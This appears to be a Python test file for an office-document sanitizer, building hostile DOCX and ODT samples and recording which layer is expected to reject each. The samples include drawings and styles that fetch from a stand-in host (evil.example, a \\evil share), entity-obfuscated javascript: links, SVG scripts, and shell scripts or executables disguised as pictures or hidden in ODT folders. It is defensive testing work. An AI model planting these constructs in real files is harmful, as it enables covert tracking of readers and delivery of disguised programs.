"""Drawings and pictures inside office files that fetch, run, or are something else."""

from tests.core.hostile.office import INNER, OUTER, body, odt, office, with_part
from tests.core.hostile.sample import Sample

VML = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
PROGRAM = b"MZ" + b"\x90" * 100


def vml(inner):
    return lambda: office(
        extra={"word/document.xml": body(f"<w:p><w:pict {VML}>{inner}</w:pict></w:p>")}
    )  # noqa: E501


def svg(inner):
    text = (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:l="http://www.w3.org/1999/xlink">'
        f"{inner}</svg>"
    )
    return with_part("word/media/i.svg", text)


def in_odt(name, data):
    return lambda: odt(extra={name: data})


SAMPLES = [
    Sample("an old drawing from a share", "a.docx",
           vml(r'<v:shape><v:imagedata src="\\evil\x.png"/></v:shape>'), refused=OUTER),
    Sample("an old drawing that reports the reader", "a.docx",
           vml('<v:shape><v:imagedata o:href="http://evil.example/x.png"/></v:shape>'),
           refused=OUTER),
    Sample("an old drawing that opens a program", "a.docx",
           vml('<v:shape href="file:///c:/x.exe"/>'), refused=OUTER),
    Sample("a drawing with a picture from elsewhere", "a.docx",
           svg('<image href="http://evil.example/x.png"/>'), refused=OUTER),
    Sample("a drawing with a style from elsewhere", "a.docx",
           svg("<style>@import url(http://evil.example/x.css)</style>"), refused=OUTER),
    Sample("a drawing with a page inside", "a.docx",
           svg("<foreignObject><x/></foreignObject>"), refused=INNER),
    Sample("a drawing that gives itself a script", "a.docx",
           svg('<set attributeName="onmouseover" to="alert(1)"/>'), refused=INNER),
    Sample("a drawing with a script spelled in numbers", "a.docx",
           svg('<a l:href="java&#115;cript:alert(1)">x</a>'), refused=OUTER),
    Sample("a metafile with a procedure of its own", "a.docx",
           with_part("word/media/i.wmf", b"\xd7\xcd\xc6\x9a" + bytes(40) + b"\x26\x06\x09\x00"),
           refused=INNER),
    Sample("a page called a picture in a DOCX", "a.docx",
           with_part("word/media/i.png", b"  <html><script>alert(1)</script>"), refused=INNER),
    Sample("a shell script called a picture in a DOCX", "a.docx",
           with_part("word/media/i.jpeg", b"#!/bin/sh\nid"), refused=INNER),
    Sample("a packed file called a picture in a DOCX", "a.docx",
           with_part("word/media/i.emf", b"\x1f\x8b" + bytes(90)), refused=INNER),
    Sample("a drawing with a script in an ODT", "a.odt",
           in_odt("Pictures/a.svg", "<svg><script>alert(1)</script></svg>"), refused=INNER),
    Sample("a program called a picture in an ODT", "a.odt", in_odt("Pictures/a.png", PROGRAM),
           refused=INNER),
    Sample("a program among the settings of an ODT", "a.odt",
           in_odt("Configurations2/a.exe", PROGRAM), refused=INNER),
    Sample("a program among the previews of an ODT", "a.odt", in_odt("Thumbnails/a.exe", PROGRAM),
           refused=INNER),
    Sample("a program called the layout of an ODT", "a.odt", in_odt("layout-cache", PROGRAM),
           refused=INNER),
]  # fmt: skip
